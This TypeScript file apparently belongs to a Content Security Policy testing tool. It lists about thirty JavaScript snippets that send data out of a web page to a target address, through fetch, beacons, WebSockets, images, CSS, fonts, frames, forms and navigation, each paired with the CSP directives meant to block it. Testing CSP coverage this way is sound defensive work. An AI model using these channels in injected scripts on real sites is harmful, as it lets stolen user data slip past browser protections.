import type { Attempt } from './attempt.js';

type Row = readonly [id: string, title: string, code: string, stoppedBy: readonly string[]];

const attempt = ([id, title, code, stoppedBy]: Row): Attempt => ({ id, kind: 'send', title, code, stoppedBy });

const CONNECT = ['connect-src', 'default-src'];
const IMAGE = ['img-src', 'default-src'];
const STYLE = ['style-src', 'style-src-elem', 'default-src'];
const MEDIA = ['media-src', 'default-src'];
const FRAME = ['frame-src', 'child-src', 'default-src'];
const OBJECT = ['object-src', 'default-src'];
const SCRIPT = ['script-src', 'script-src-elem', 'default-src'];
const PREFETCH = ['default-src'];

/** An element with some properties, at the end of the document. */
const put = (tag: string, properties: string): string =>
  `document.body.append(Object.assign(document.createElement('${tag}'), { ${properties} }))`;
const styled = (property: string, value: string): string =>
  `const spot = document.createElement('i'); spot.textContent = '.'; spot.style.setProperty('${property}', ${value}); document.body.append(spot)`;
const form = (method: string): string =>
  `const sink = Object.assign(document.createElement('iframe'), { name: 'drill-' + mark }); document.body.append(sink); const form = Object.assign(document.createElement('form'), { action: to, method: '${method}', target: sink.name }); form.append(Object.assign(document.createElement('input'), { name: 'loot', value: mark })); document.body.append(form); form.submit()`;

/** Ways to send out what a script in the page has read. */
export const SENDINGS: readonly Attempt[] = (
  [
    ['fetch', 'a request by fetch', `await fetch(to, { mode: 'no-cors' })`, CONNECT],
    [
      'fetch-keepalive',
      'a request that outlives the page',
      `await fetch(to, { mode: 'no-cors', keepalive: true, method: 'POST', body: mark })`,
      CONNECT,
    ],
    [
      'xhr',
      'a request by XMLHttpRequest',
      `const request = new XMLHttpRequest(); request.open('GET', to); request.send()`,
      CONNECT,
    ],
    ['beacon', 'a beacon', `navigator.sendBeacon(to, mark)`, CONNECT],
    ['websocket', 'a WebSocket', `new WebSocket(to.replace('http', 'ws'))`, CONNECT],
    ['eventsource', 'an event stream', `new EventSource(to)`, CONNECT],
    [
      'ping',
      'a link that reports its clicks',
      `const link = document.createElement('a'); link.href = '#'; link.ping = to; document.body.append(link); link.click()`,
      CONNECT,
    ],
    [
      'worker-fetch',
      'a request of a worker',
      `new Worker(URL.createObjectURL(new Blob(['fetch(' + JSON.stringify(to) + ', { mode: "no-cors" })'])))`,
      [...CONNECT, 'worker-src', 'child-src', 'script-src'],
    ],
    ['image', 'an image', `new Image().src = to`, IMAGE],
    ['srcset', 'an image by srcset', put('img', `srcset: to + ' 1x'`), IMAGE],
    [
      'svg-image',
      'an image in a drawing',
      `const drawing = document.createElementNS('http://www.w3.org/2000/svg', 'svg'); const image = document.createElementNS('http://www.w3.org/2000/svg', 'image'); image.setAttribute('href', to); drawing.append(image); document.body.append(drawing)`,
      IMAGE,
    ],
    ['image-button', 'a button that is an image', put('input', `type: 'image', src: to`), IMAGE],
    ['poster', 'a poster of a video', put('video', `poster: to`), IMAGE],
    [
      'icon',
      'an icon of the page',
      `document.head.append(Object.assign(document.createElement('link'), { rel: 'icon', href: to }))`,
      IMAGE,
    ],
    ['background', 'a background, set by script', styled('background-image', "'url(' + to + ')'"), IMAGE],
    ['css-content', 'an image as content, set by script', styled('content', "'url(' + to + ')'"), IMAGE],
    ['cursor', 'a cursor, set by script', `document.documentElement.style.cursor = 'url(' + to + '), auto'`, IMAGE],
    [
      'list-mark',
      'a mark of a list, set by script',
      `const list = document.createElement('li'); list.style.listStyleImage = 'url(' + to + ')'; list.textContent = '.'; document.body.append(list)`,
      IMAGE,
    ],
    [
      'stylesheet',
      'a style sheet',
      `document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: to }))`,
      STYLE,
    ],
    [
      'css-import',
      'a style sheet that another imports',
      `document.head.append(Object.assign(document.createElement('style'), { textContent: '@import url(' + to + ');' }))`,
      STYLE,
    ],
    ['font', 'a font', `await new FontFace('drill', 'url(' + to + ')').load()`, ['font-src', 'default-src']],
    ['video', 'a video', put('video', `src: to, preload: 'auto'`), MEDIA],
    ['audio', 'a sound', `new Audio(to).load()`, MEDIA],
    ['frame', 'a frame', put('iframe', `src: to`), FRAME],
    ['object', 'an object', put('object', `data: to`), OBJECT],
    ['embed', 'an embedded thing', put('embed', `src: to`), OBJECT],
    [
      'script',
      'a script’s address',
      `document.head.append(Object.assign(document.createElement('script'), { src: to }))`,
      SCRIPT,
    ],
    [
      'module-preload',
      'a module that is loaded ahead',
      `document.head.append(Object.assign(document.createElement('link'), { rel: 'modulepreload', href: to }))`,
      SCRIPT,
    ],
    [
      'preload',
      'an image that is loaded ahead',
      `document.head.append(Object.assign(document.createElement('link'), { rel: 'preload', as: 'image', href: to }))`,
      IMAGE,
    ],
    [
      'prefetch',
      'a page that is fetched ahead',
      `document.head.append(Object.assign(document.createElement('link'), { rel: 'prefetch', href: to }))`,
      PREFETCH,
    ],
    ['form-post', 'a form that is posted', form('post'), ['form-action', ...FRAME]],
    ['form-get', 'a form that asks', form('get'), ['form-action', ...FRAME]],
    ['window', 'a new window', `window.open(to)`, []],
    ['navigation', 'the page itself, which goes elsewhere', `location.href = to`, []],
  ] as const satisfies readonly Row[]
).map(attempt);
